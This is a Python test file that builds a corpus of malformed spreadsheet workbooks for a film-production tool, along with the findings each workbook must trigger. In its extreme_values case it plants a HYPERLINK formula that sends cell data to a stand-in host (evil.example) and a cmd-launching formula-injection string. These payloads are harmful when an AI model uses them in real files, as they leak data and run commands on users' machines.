"""The broken-input corpus: production workbooks as coordinators really leave them, each with what it must yield.

Every case starts from the small, clean production of tests/rules/base.py (written by the real template writer)
and breaks it the way people do: tables deleted or left as plain cells, columns renamed, moved, repeated or
missing, merged cells, text in number columns, dates and times typed every way (and impossible ones), odd scene
numbers, an empty workbook, headers only, 10,000 blank rows in a table, formulas showing #REF!, hidden sheets,
names in every script; and the package structures real files from Excel, LibreOffice and Hancom Office carry that
once broke a check or a generated tab (tests/corpus/real_structures.py: Power Query and Data Model parts, capitalised
part names, wrapped styles, LibreOffice manifests, no activeTab, an empty shared-strings part, macro sheets, a very
repetitive sheet with an empty 0-byte thumbnail, no styles part, a protected structure). ``CASES`` lists them with
the findings each must produce (code, sheet, cell), the codes it must not produce, and what each command must exit
with.

The corpus is generated, not committed: ``build_corpus(folder)`` writes every case and ``manifest.json`` in a
second or two (tests/test_corpus.py does it once per session). To look at the files:

    python -m tests.corpus.make_corpus OUTDIR

Deterministic: the same code writes the same workbooks (fixed data, no clock, no randomness).
"""

from __future__ import annotations

import copy
import datetime as dt
import json
import re
import shutil
import sys
import zipfile
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.table import Table as ExcelTable

from xlproduction.model.contract import SETTINGS_KEYS
from xlproduction.model.tabledata import ProductionData
from xlproduction.workbook.writer import write_workbook

from ..rules.base import base_data
from ..rules.harness import _remove, apply_patch
from . import real_structures as rs

COMMANDS = ("check", "check-write", "callsheet", "dood", "cost", "crew", "finance-pack", "calendar")


@dataclass(frozen=True)
class Expect:
    """A finding the case must produce. ``cell`` None: the finding has no cell (a table that is not there)."""

    code: str
    sheet: str | None
    cell: str | None


@dataclass
class Case:
    name: str
    kind: str  # the class of bad input, as RELIABILITY.md groups them
    description: str
    build: Callable[[Path, Path], Any]  # (clean workbook, target) -> optional extra expectations
    expect: list[Expect] = field(default_factory=list)
    absent: tuple[str, ...] = ()  # codes that must not appear
    # command -> exit code: "check" (also for check --write), "callsheet", and any report command (default 0)
    exits: dict[str, int] = field(default_factory=dict)
    rows: dict[str, int] = field(default_factory=dict)  # table -> rows that must be read
    file: str = ""
    suffix: str = ".xlsx"  # .xlsm for a macro-enabled workbook


# --- helpers -----------------------------------------------------------------------------------------------------


def _write(data: ProductionData, target: Path) -> Path:
    return write_workbook(target, data)


def _edit(clean: Path, target: Path, edit: Callable[[Any], None]) -> Path:
    if clean != target:
        shutil.copyfile(clean, target)
    wb = load_workbook(target)
    edit(wb)
    wb.save(target)
    return target


def _sheet_of(wb: Any, table: str) -> Any:
    return next(ws for ws in wb.worksheets if table in ws.tables)


def _header_col(ws: Any, header: str, row: int = 1) -> int:
    return next(c.column for c in ws[row] if c.value == header)


def _set(wb: Any, table: str, header: str, data_row: int, value: Any) -> str:
    """Set the value of ``header`` on the table's ``data_row``-th row (1-based); returns the cell."""
    ws = _sheet_of(wb, table)
    col = _header_col(ws, header)
    ws.cell(1 + data_row, col, value)
    return f"{get_column_letter(col)}{1 + data_row}"


def _cell_xml(path: Path, sheet: str, cell: str, xml: str) -> None:
    """Replace one cell's XML in a saved workbook (what openpyxl cannot write: a formula's cached error value)."""
    from xlproduction.workbook.guard import inspect

    part = inspect(path).sheets[sheet].part
    with zipfile.ZipFile(path) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    data = parts[part].decode("utf-8")
    pattern = re.compile(rf'<c r="{cell}"(?:[^>]*/>|[^>]*>.*?</c>)', re.S)
    if pattern.search(data):
        data = pattern.sub(xml, data, count=1)
    else:
        raise AssertionError(f"{sheet}!{cell} not in {part}")
    parts[part] = data.encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in parts.items():
            z.writestr(name, body)


# --- the cases -------------------------------------------------------------------------------------------------------


def missing_tables(clean: Path, target: Path) -> None:
    def edit(wb: Any) -> None:
        for name in ("Days", "Locations"):
            wb.remove(_sheet_of(wb, name))

    _edit(clean, target, edit)


def empty_workbook(clean: Path, target: Path) -> None:
    wb = Workbook()
    wb.active.title = "Sheet1"
    wb.save(target)


def only_headers(clean: Path, target: Path) -> None:
    data = base_data()
    _write(ProductionData(settings={}, tables={k: [] for k in data.tables}), target)


def plain_ranges(clean: Path, target: Path) -> None:
    """Every Excel Table removed (the cells stay); the Scenes range pushed down under a title and a blank row."""

    def edit(wb: Any) -> None:
        for ws in wb.worksheets:
            for name in list(ws.tables):
                del ws.tables[name]
        ws = wb["Scenes"]
        rows = [[c.value for c in r] for r in ws.iter_rows(min_row=1, max_row=ws.max_row)]
        ws.delete_rows(1, ws.max_row)
        ws["A1"] = "BREAKDOWN — Base Test"
        ws["A2"] = "Printed for the production meeting"
        for i, r in enumerate(rows):
            for j, v in enumerate(r):
                ws.cell(4 + i, 1 + j, v)

    _edit(clean, target, edit)


def renamed_table(clean: Path, target: Path) -> None:
    """The Crew table renamed 'Table3' (Excel's default when a table is re-created): found by its sheet's name."""

    def edit(wb: Any) -> None:
        ws = _sheet_of(wb, "Crew")
        t = ws.tables["Crew"]
        del ws.tables["Crew"]
        ws.add_table(ExcelTable(displayName="Table3", ref=t.ref))

    _edit(clean, target, edit)


RENAMES = {"Scenes": {"Scene": "  SCENE # ", "I/E": "int/ext", "Set": "Set_Name", "D/N": "day / night",
                      "Pages": "PAGE-COUNT", "Est. Time": "est time", "Cast IDs": "Cast Members",
                      "Location ID": "loc"},
           "Crew": {"Department": "Dept", "Position": "Job", "Walkie Ch.": "Channel"},
           "Cast": {"Cast ID": "Cast #", "Performer": "Actor", "Email": "E-mail", "Date of Birth": "DOB"},
           "Days": {"Crew Call": "General Call", "Lunch": "First Meal"}}  # fmt: skip


def renamed_columns(clean: Path, target: Path) -> None:
    def edit(wb: Any) -> None:
        for table, renames in RENAMES.items():
            ws = _sheet_of(wb, table)
            t = ws.tables[table]
            for c in ws[1]:
                if c.value in renames:
                    c.value = renames[c.value]
            for tc in t.tableColumns:
                tc.name = renames.get(tc.name, tc.name).strip()
            for c in ws[1]:  # Excel keeps header cells and column names equal
                if isinstance(c.value, str):
                    c.value = c.value.strip()

    _edit(clean, target, edit)


def moved_columns(clean: Path, target: Path) -> list[Expect]:
    """Scenes rebuilt with its columns in reverse order, starting at C5, on a sheet renamed 'Breakdown'; one bad
    page count must still be reported at its new cell."""
    wb = load_workbook(clean)
    ws = _sheet_of(wb, "Scenes")
    grid = [[c.value for c in r] for r in ws.iter_rows(min_row=1, max_row=ws.max_row, max_col=ws.max_column)]
    del ws.tables["Scenes"]
    wb.save(target)
    wb = load_workbook(target)
    ws = wb["Scenes"]
    ws.delete_rows(1, ws.max_row)
    ws.title = "Breakdown"
    cols = list(range(len(grid[0])))[::-1]
    for i, r in enumerate(grid):
        for k, j in enumerate(cols):
            ws.cell(5 + i, 3 + k, r[j])
    pages_col = 3 + cols.index(grid[0].index("Pages"))
    ws.cell(5 + 3, pages_col, "three and a bit")  # scene 3
    last = f"{get_column_letter(3 + len(cols) - 1)}{5 + len(grid) - 1}"
    ws.add_table(ExcelTable(displayName="Scenes", ref=f"C5:{last}"))
    wb.save(target)
    return [Expect("ST003", "Breakdown", f"{get_column_letter(pages_col)}8")]


def duplicated_columns(clean: Path, target: Path) -> None:
    shutil.copyfile(clean, target)
    _remove(target, [], [], {"append_columns": [{"table": "Cast", "header": "phone", "value": "+1 310 555 0999"},
                                                {"table": "Scenes", "header": "SET", "value": "ELSEWHERE"}]})


def extra_columns(clean: Path, target: Path) -> None:
    shutil.copyfile(clean, target)
    _remove(target, [], [], {"append_columns": [{"table": "Scenes", "header": "Shoot Notes", "value": "rain cover"},
                                                {"table": "Scenes", "header": "Colour", "value": 5},
                                                {"table": "Cast", "header": "Favourite Snack", "value": "crisps"}]})


def missing_column(clean: Path, target: Path) -> None:
    shutil.copyfile(clean, target)
    _remove(target, [], [{"table": "Days", "column": "date"}, {"table": "Scenes", "column": "pages"}], {})


def merged_cells(clean: Path, target: Path) -> None:
    def edit(wb: Any) -> None:
        ws = _sheet_of(wb, "Scenes")
        ws.merge_cells("C3:C4")  # the Set of scenes 2 and 3, merged: only C3 keeps a value
        ws.merge_cells("I5:I7")  # Location ID of scenes 4 to 6

    _edit(clean, target, edit)


def text_in_numbers(clean: Path, target: Path) -> list[Expect]:
    cells = (("Cast", "Day Rate", 1, "a lot", True), ("Budget", "Amount", 2, "3 days", True),
             ("Days", "Day", 3, "third", True), ("Crew", "Call Offset (min)", 2, "-30 mins", True),
             ("Fringes", "Percent", 1, "6.2 percent", True), ("Scenes", "Pages", 4, "long", True),
             ("Accounts", "EFC Override", 2, "TBC soon", True), ("Budget", "X", 4, "12,5", True),
             # what people type that is readable: no finding
             ("Cast", "Day Rate", 2, "$1,250.00", False), ("Budget", "Rate", 3, "(200)", False),
             ("Crew", "Day Rate", 3, " 650 ", False), ("Scenes", "Pages", 5, "1 3/8", False),
             ("Fringes", "Percent", 2, "1.45%", False))  # fmt: skip
    out: list[Expect] = []

    def edit(wb: Any) -> None:
        for table, header, row, value, reported in cells:
            cell = _set(wb, table, header, row, value)
            if reported:
                out.append(Expect("ST003", _sheet_of(wb, table).title, cell))

    _edit(clean, target, edit)
    return out


def dates_and_times(clean: Path, target: Path) -> list[Expect]:
    """Every way users type dates and times (read), and impossible ones (reported)."""
    good = [("Days", "Date", 1, "2027-03-01"), ("Days", "Date", 2, "03/02/2027"), ("Days", "Date", 3, "3 Mar 2027"),
            ("Days", "Crew Call", 1, "7:00 AM"), ("Days", "Crew Call", 2, "0700"), ("Days", "Crew Call", 3, "7am"),
            ("Days", "Shooting Call", 1, 0.3333333333), ("Days", "Shooting Call", 2, "8.00"),
            ("Days", "Lunch", 1, "1 PM"), ("Days", "Lunch", 2, "noon"), ("Days", "Lunch", 3, "13:00"),
            ("Days", "Est. Wrap", 1, "19:00"), ("Days", "Est. Wrap", 2, "7:00 p.m."), ("Days", "Est. Wrap", 3, "700p"),
            ("Days", "Actual Wrap", 1, "25:30"),  # past midnight: stays after midnight
            ("Cast", "Available From", 1, "February 15, 2027"), ("Cast", "Available To", 1, 46477),
            ("Cast", "Available From", 2, "15-Feb-2027"), ("Cast", "Available To", 2, "46477"),
            ("Crew", "Start Date", 1, dt.datetime(2027, 3, 1, 0, 0)), ("Crew", "End Date", 1, "2027/03/03"),
            ("Actuals", "Date", 1, "Sat 20 Feb 2027"), ("Actuals", "Date", 2, "2/25/27"),
            ("Scenes", "Est. Time", 1, "2h"), ("Scenes", "Est. Time", 2, "90 min"),
            ("Scenes", "Est. Time", 3, "1:00"), ("Scenes", "Est. Time", 4, "3 hrs"), ("Scenes", "Est. Time", 5, 2),
            ("Scenes", "Est. Time", 6, "1h30")]  # fmt: skip
    bad = [("Actuals", "Date", 3, "31/02/2027"), ("Actuals", "Date", 4, "02/31/2027"),
           ("CastEvents", "Date", 1, "2027-02-30"), ("Actuals", "Date", 5, "March 2027"),
           ("Calls", "Pickup", 1, "25:75"), ("Calls", "Makeup/Hair", 1, "13:00 PM"), ("Calls", "On Set", 1, "31:00"),
           ("Crew", "End Date", 2, "the 3rd"), ("Cast", "Date of Birth", 3, "12")]  # fmt: skip
    out: list[Expect] = []

    def edit(wb: Any) -> None:
        for table, header, row, value in good:
            _set(wb, table, header, row, value)
        for table, header, row, value in bad:
            out.append(Expect("ST003", _sheet_of(wb, table).title, _set(wb, table, header, row, value)))

    _edit(clean, target, edit)
    return out


SCENE_NUMBERS = {"1": "12A", "2": "12 pt 2", "3": "A12", "4": "12.1", "5": "12-14", "6": "12a"}


def scene_numbers(clean: Path, target: Path) -> None:
    data = base_data()
    patch = {"set": [{"table": "Scenes", "where": {"scene": k}, "values": {"scene": v}} for k, v in
                     SCENE_NUMBERS.items()]
             + [{"table": "Schedule", "where": {"scene": k}, "values": {"scene": v}} for k, v in
                SCENE_NUMBERS.items()]}  # fmt: skip
    _write(apply_patch(data, patch), target)


def blank_rows(clean: Path, target: Path) -> None:
    """10,000 blank rows inside the Scenes table, between scene 3 and scene 4; a bad page count below them."""
    wb = load_workbook(clean)
    ws = _sheet_of(wb, "Scenes")
    grid = [[c.value for c in r] for r in ws.iter_rows(min_row=1, max_row=ws.max_row, max_col=ws.max_column)]
    t = ws.tables["Scenes"]
    ws.delete_rows(1, ws.max_row)
    for i, r in enumerate(grid[:4]):
        for j, v in enumerate(r):
            ws.cell(1 + i, 1 + j, v)
    for i, r in enumerate(grid[4:]):
        for j, v in enumerate(r):
            ws.cell(10_005 + i, 1 + j, v)
    ws.cell(10_006, grid[0].index("Pages") + 1, "x")  # scene 5
    last = f"{get_column_letter(len(grid[0]))}{10_005 + len(grid[4:]) - 1}"
    t.ref = f"A1:{last}"
    if t.autoFilter is not None:
        t.autoFilter.ref = t.ref
    wb.save(target)


def formula_errors(clean: Path, target: Path) -> None:
    shutil.copyfile(clean, target)
    _cell_xml(target, "Days", "D3", '<c r="D3" t="e"><f>#REF!</f><v>#REF!</v></c>')  # Location ID of day 2
    _cell_xml(target, "Cast", "M3", '<c r="M3" t="e"><f>1/0</f><v>#DIV/0!</v></c>')  # Day Rate of Joe
    _cell_xml(target, "Crew", "D2", '<c r="D2" t="e"><v>#N/A</v></c>')  # a phone: an error typed as a value
    _cell_xml(target, "Scenes", "C4", '<c r="C4" t="e"><f>Sets!B9</f><v>#REF!</v></c>')  # Set (required)
    _cell_xml(target, "Settings", "B2", '<c r="B2" t="e"><f>#REF!</f><v>#REF!</v></c>')  # the Title


def hidden_sheets(clean: Path, target: Path) -> None:
    def edit(wb: Any) -> None:
        _sheet_of(wb, "Crew").sheet_state = "hidden"
        _sheet_of(wb, "Locations").sheet_state = "veryHidden"
        _set(wb, "Crew", "Day Rate", 1, "lots")

    _edit(clean, target, edit)


def non_ascii(clean: Path, target: Path) -> None:
    data = base_data()
    patch = {"set": [
        {"table": "Cast", "where": {"cast_id": "1"}, "values": {"performer": "Zoë Ñúñez", "character": "MAYA – 真矢"}},
        {"table": "Cast", "where": {"cast_id": "2"}, "values": {"performer": "山田 太郎"}},
        {"table": "Cast", "where": {"cast_id": "3"}, "values": {"performer": "🎬 Star Ölçek"}},
        {"table": "Scenes", "where": {"scene": "1"},
         "values": {"set": "CAFÉ – SALLE", "synopsis": "Zoë rencontre 太郎 🎬"}},
        {"table": "Locations", "where": {"location_id": "L1"}, "values": {"name": "Café de Flore ☕"}},
        {"table": "Crew", "where": {"name": "Gus Grip"}, "values": {"name": "Gústav Grïp"}},
    ]}  # fmt: skip
    _write(apply_patch(data, patch), target)

    def edit(wb: Any) -> None:
        _sheet_of(wb, "Scenes").title = "Décors 🎬"
        _sheet_of(wb, "Days").title = "日本 Days"
        _sheet_of(wb, "Crew").title = "Joe's Équipe"
        _set(wb, "Days", "Crew Call", 1, "bientôt")
        _set(wb, "Crew", "Day Rate", 2, "beaucoup")

    _edit(target, target, edit)


def settings_garbage(clean: Path, target: Path) -> None:
    shutil.copyfile(clean, target)
    _remove(target, [], [], {"extra_settings": {"Planed Shoot Days": 3, "Title": "Second Title"}})

    def edit(wb: Any) -> None:
        ws = _sheet_of(wb, "Settings")
        for row in ws.iter_rows(min_row=2):
            if row[0].value == "Planned Shoot Days":
                row[1].value = "many"
            elif row[0].value == "Time Zone":
                row[1].value = "Mars/Olympus_Mons"
            elif row[0].value == "Country":
                row[1].value = "Atlantis"

    _edit(target, target, edit)


def extreme_values(clean: Path, target: Path) -> list[Expect]:
    out: list[Expect] = []

    def edit(wb: Any) -> None:
        _set(wb, "Scenes", "Synopsis", 1, "A long night. " * 2340)  # 32,760 characters: Excel's cell limit
        for table, header, row, value in (("Cast", "Day Rate", 1, 1e308), ("Scenes", "Pages", 2, -1),
                                          ("Days", "Day", 2, 10**12), ("Scenes", "Pages", 3, 10**9),
                                          ("Budget", "X", 1, "1e999"), ("Fringes", "Cap", 2, "-inf")):  # fmt: skip
            cell = _set(wb, table, header, row, value)
            if (table, header) in {("Scenes", "Pages"), ("Budget", "X"), ("Fringes", "Cap")}:
                out.append(Expect("ST003", _sheet_of(wb, table).title, cell))
        _set(wb, "Actuals", "Vendor", 1, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Invoice\")")
        _set(wb, "Budget", "Description", 4, "@SUM(1+1)*cmd|' /C calc'!A0")

    _edit(clean, target, edit)
    # Control characters are stored as _x0007_ escapes (openpyxl refuses to write them): I/E of scene 6 (read as
    # INT: punctuation and controls are ignored in a list value), and its Set.
    _cell_xml(target, "Scenes", "B7", '<c r="B7" t="inlineStr"><is><t>_x0007_INT_x0000_</t></is></c>')
    _cell_xml(target, "Scenes", "C7", '<c r="C7" t="inlineStr"><is><t>DINER_x0007_\tBELL</t></is></c>')
    return out


def control_characters(clean: Path, target: Path) -> None:
    """Control characters pasted from a terminal or a database export (stored as _x0007_ escapes, which openpyxl
    refuses to write): in a set, a character's name, and two scene numbers that repeat each other."""
    shutil.copyfile(clean, target)
    _cell_xml(target, "Scenes", "C2", '<c r="C2" t="inlineStr"><is><t>DINER_x0007_ - MAIN_x001B_[31m ROOM</t></is></c>')
    _cell_xml(target, "Cast", "B2", '<c r="B2" t="inlineStr"><is><t>MAYA_x0000_</t></is></c>')
    _cell_xml(target, "Actuals", "D2", '<c r="D2" t="inlineStr"><is><t>City_x0008_ Permits</t></is></c>')
    _cell_xml(target, "Accounts", "B2", '<c r="B2" t="inlineStr"><is><t>Cast_x000B_</t></is></c>')
    _cell_xml(target, "Locations", "B2", '<c r="B2" t="inlineStr"><is><t>Starlite_x0007_ Diner</t></is></c>')


# --- package structures of real files (tests/corpus/real_structures.py; tests/test_real_structures.py has a regression
# test of each): the clean production with one structure put in, read and written by every command as usual.


def _structure(*edits: Callable[[rs.Parts], rs.Parts]) -> Callable[[Path, Path], None]:
    def build(clean: Path, target: Path) -> None:
        rs.rewrite(clean, target, *edits)

    return build


def libreoffice_manifest(clean: Path, target: Path) -> None:
    """A workbook that already holds a Cost Report tab (with its chart), saved with a LibreOffice 3.5–6.0 manifest:
    no rels Default, every .rels part an Override. ``report cost`` replaces that tab."""
    from typer.testing import CliRunner

    from xlproduction.cli import app

    with_report = target.with_name(f".{target.stem}.with-report.xlsx")
    r = CliRunner().invoke(app, ["report", "cost", str(clean), "-o", str(with_report)])
    assert r.exit_code == 0, r.output
    rs.rewrite(with_report, target, rs.rels_as_overrides)
    with_report.unlink()


def repetitive_sheet_and_empty_thumbnail(clean: Path, target: Path) -> None:
    """A Notes sheet with the same note pasted on 1,000 rows (1.3 MB inflating ~125-fold), and an empty thumbnail
    stored as a deflate entry of 0 bytes."""
    rs.write_with_empty_thumbnail(target, rs.add_sheet(rs.read_parts(clean), "Notes", rs.repetitive_sheet(1_000)))


E1 = {"check": 1, "callsheet": 1}  # errors found; call sheets blocked by them (nothing written)
OK = {"check": 0, "callsheet": 0}
NO_DAYS = {"callsheet": 2}  # "No shoot day in the Days table has a date": nothing to make

# Known faults in code this corpus does not own, each with where it is; a test fails when one stops happening,
# so the entry is removed with the fix. (case, command or code) -> why.
KNOWN: dict[tuple[str, str], str] = {}

CASES: tuple[Case, ...] = (
    Case("missing-tables", "missing tables", "Days and Locations deleted with their sheets", missing_tables,
         [Expect("ST001", None, None)], exits={"check": 1, **NO_DAYS}),
    Case("empty-workbook", "empty workbook", "one empty sheet", empty_workbook,
         [Expect("ST001", None, None)], exits={"check": 1, **NO_DAYS}, rows={"Scenes": 0}),
    Case("only-headers", "only headers", "every table present, no rows, no settings", only_headers,
         absent=("ST001", "ST002", "ST003"), exits={"check": 0, **NO_DAYS}, rows={"Scenes": 0, "Days": 0}),
    Case("plain-ranges", "tables as plain ranges", "every Excel Table removed, Scenes under a title at row 4",
         plain_ranges, [Expect("ST007", "Scenes", "A4"), Expect("ST007", "Settings", "A1")]
         + [Expect("ST007", sheet, "A1") for sheet in ("Days", "Schedule", "Cast", "Cast Events", "Crew", "Calls",
                                                       "Locations", "Elements", "Tasks", "Vehicles", "Transport",
                                                       "Travel", "Accommodation", "Per Diem Rates", "Accounts",
                                                       "Budget", "Fringes", "Globals", "Currencies", "Charges",
                                                       "Actuals")],
         absent=("ST001", "ST002", "ST003"), exits=OK, rows={"Scenes": 6, "Days": 3, "Cast": 3, "Crew": 6}),
    Case("renamed-table", "tables as plain ranges", "the Crew table renamed Table3", renamed_table,
         [Expect("ST007", "Crew", "A1")], absent=("ST001", "ST002"), exits=OK, rows={"Crew": 6}),
    Case("renamed-columns", "renamed, moved, duplicated, extra columns", "headers spelt as users spell them",
         renamed_columns, absent=("ST001", "ST002", "ST003", "ST008"), exits=OK,
         rows={"Scenes": 6, "Crew": 6, "Cast": 3}),
    Case("moved-columns", "renamed, moved, duplicated, extra columns",
         "Scenes reversed, at C5, on a sheet renamed Breakdown", moved_columns, absent=("ST001", "ST002"),
         exits=E1, rows={"Scenes": 6}),
    Case("duplicated-columns", "renamed, moved, duplicated, extra columns", "a second Phone and a second Set",
         duplicated_columns, [Expect("ST008", "Cast", "T1"), Expect("ST008", "Scenes", "N1")],
         absent=("ST002",), exits=OK, rows={"Cast": 3}),
    Case("extra-columns", "renamed, moved, duplicated, extra columns", "user columns added to Scenes and Cast",
         extra_columns, absent=("ST001", "ST002", "ST003", "ST008"), exits=OK, rows={"Scenes": 6}),
    Case("missing-required-column", "renamed, moved, duplicated, extra columns", "Days.Date and Scenes.Pages deleted",
         missing_column, [Expect("ST002", "Days", "A1"), Expect("ST002", "Scenes", "A1")],
         exits={"check": 1, **NO_DAYS}),
    Case("merged-cells", "merged cells in a table", "Set merged over two scenes, Location over three",
         merged_cells, [Expect("ST005", "Scenes", "C4")], exits=E1, rows={"Scenes": 6}),
    Case("text-in-number-columns", "text in number columns", "words in rates, amounts, days, percents, pages",
         text_in_numbers, exits=E1),
    Case("dates-and-times", "dates and times", "29 ways of typing dates and times, and 9 impossible ones",
         dates_and_times, exits=E1, rows={"Days": 3}),
    Case("scene-numbers", "scene numbers", "12A, 12 pt 2, A12, 12.1, 12-14 and 12a (a repeat of 12A)",
         scene_numbers, [Expect("ST006", "Scenes", "A7")], absent=("XR001", "XR002", "ST003"),
         exits=E1, rows={"Scenes": 6}),
    Case("blank-rows", "10,000 blank rows in a table", "10,000 blank rows between scenes 3 and 4", blank_rows,
         [Expect("ST003", "Scenes", "E10006")], absent=("ST005",), exits=E1, rows={"Scenes": 6}),
    Case("formula-errors", "formulas returning errors", "#REF!, #DIV/0! and #N/A in input cells", formula_errors,
         [Expect("ST003", "Days", "D3"), Expect("ST003", "Cast", "M3"), Expect("ST003", "Crew", "D2"),
          Expect("ST003", "Scenes", "C4"), Expect("ST003", "Settings", "B2")],
         absent=("ST005",), exits=E1, rows={"Scenes": 6}),
    Case("hidden-sheets", "hidden sheets", "Crew hidden, Locations very hidden, a bad rate on the hidden sheet",
         hidden_sheets, [Expect("ST003", "Crew", "I2")], exits=E1, rows={"Crew": 6, "Locations": 2}),
    Case("non-ascii-names", "non-ASCII names",
         "sheets 'Décors 🎬', '日本 Days', \"Joe's Équipe\"; names in five scripts; a non-ASCII file name",
         non_ascii, [Expect("ST003", "日本 Days", "E2"), Expect("ST003", "Joe's Équipe", "I3")],
         exits=E1, rows={"Scenes": 6, "Crew": 6}),
    Case("settings-garbage", "bad settings", "a misspelt and a repeated setting, bad values", settings_garbage,
         # The two extra rows come after the contract's settings (a header row, then one row per setting).
         [Expect("ST009", "Settings", f"A{len(SETTINGS_KEYS) + 2}"),
          Expect("ST006", "Settings", f"A{len(SETTINGS_KEYS) + 3}"), Expect("ST003", "Settings", "B23")],
         exits={**E1, "calendar": 2}),
    Case("control-characters", "extreme values", "bell, escape and NUL characters in names and IDs",
         control_characters, exits=OK, rows={"Scenes": 6, "Locations": 2}),
    Case("extreme-values", "extreme values", "32,760-character text, 1e308, -1 pages, formula-like text",
         extreme_values, exits=E1),
    Case("power-query-data-model", "package structures of real files",
         "a Power Query item (UTF-16 customXml) and a Data Model (binary xl/model/item.data)",
         _structure(rs.add_power_query), exits=OK, rows={"Scenes": 6}),
    Case("capitalised-part-names", "package structures of real files",
         "sheets at xl/worksheets/Sheet1.xml…, their relationships at _rels/sheet1.xml.rels",
         _structure(rs.capitalise_sheet_parts), exits=OK, rows={"Scenes": 6, "Crew": 6}),
    Case("hancom-wrapped-styles", "package structures of real files",
         "fonts and cell formats wrapped in mc:AlternateContent (Hancom Office)", _structure(rs.wrap_styles),
         absent=("ST003",), exits=OK, rows={"Days": 3, "Actuals": 5}),
    Case("libreoffice-manifest", "package structures of real files",
         "a Cost Report tab with its chart, every .rels an Override and no rels Default (LibreOffice 3.5–6.0)",
         libreoffice_manifest, exits=OK),
    Case("no-active-tab", "package structures of real files", "a workbook view without activeTab (Excel's way)",
         _structure(rs.drop_active_tab), exits=OK),
    Case("empty-shared-strings", "package structures of real files", "a shared-strings part holding no string",
         _structure(rs.empty_shared_strings), exits=OK),
    Case("macro-sheets", "package structures of real files",
         "an Excel 4.0 macro sheet and a legacy module sheet in an .xlsm", _structure(rs.add_macro_sheets),
         exits=OK, rows={"Scenes": 6}, suffix=".xlsm"),
    Case("repetitive-sheet", "package structures of real files",
         "a note pasted on 1,000 rows (~125-fold inflation) and a 0-byte deflate thumbnail",
         repetitive_sheet_and_empty_thumbnail, exits=OK),
    Case("no-styles-part", "package structures of real files", "no styles part (it is optional)",
         _structure(rs.remove_styles), exits=OK, rows={"Scenes": 6}),
    Case("protected-structure", "package structures of real files",
         "the structure protected (Review → Protect Workbook): tabs go into the copy, said",
         _structure(rs.protect_structure), exits=OK),
)


def expected_exit(case: Case, command: str) -> int:
    return case.exits.get("check" if command == "check-write" else command, 0)


def build_corpus(folder: Path, names: tuple[str, ...] | None = None) -> dict[str, Case]:
    """Write every case (or those named) and manifest.json into ``folder``; returns the cases with their full
    expectations."""
    folder.mkdir(parents=True, exist_ok=True)
    clean = write_workbook(folder / "_clean.xlsx", base_data())
    out: dict[str, Case] = {}
    for case in CASES:
        if names is not None and case.name not in names:
            continue
        c = copy.copy(case)
        target = folder / f"{case.name}{case.suffix}"
        if case.name == "non-ascii-names":
            target = folder / "non-ascii-names été 日本 🎬.xlsx"
        extra = case.build(clean, target)
        c.expect = [*case.expect, *(extra or [])]
        c.file = target.name
        out[case.name] = c
    manifest = {name: {"file": c.file, "kind": c.kind, "description": c.description,
                       "expect": [asdict(e) for e in c.expect], "absent": list(c.absent),
                       "exits": {cmd: expected_exit(c, cmd) for cmd in COMMANDS}, "rows": c.rows,
                       "known": {k: why for (n, k), why in KNOWN.items() if n == name}}
                for name, c in out.items()}  # fmt: skip
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2, ensure_ascii=False), encoding="utf-8")
    return out


if __name__ == "__main__":
    where = Path(sys.argv[1] if len(sys.argv) > 1 else "corpus")
    for name, c in build_corpus(where).items():
        print(f"{name:26} {len(c.expect):3} expected findings  {where / c.file}")
